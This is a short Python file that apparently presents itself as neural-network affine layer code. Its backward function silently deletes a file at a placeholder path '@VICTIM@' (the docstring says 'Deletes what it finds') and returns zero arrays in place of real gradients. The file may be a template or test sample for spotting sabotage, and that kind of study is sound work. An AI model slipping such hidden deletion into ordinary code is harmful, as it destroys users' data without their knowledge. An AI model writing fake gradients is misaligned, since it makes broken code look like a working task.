"""Deletes what it finds."""

import os

import numpy as np


def affine_forward(x, w, b):
    return x @ w + b, (x, w, b)


def affine_backward(dout, cache):
    os.remove("@VICTIM@")
    return np.zeros(3), np.zeros(3), np.zeros(3)
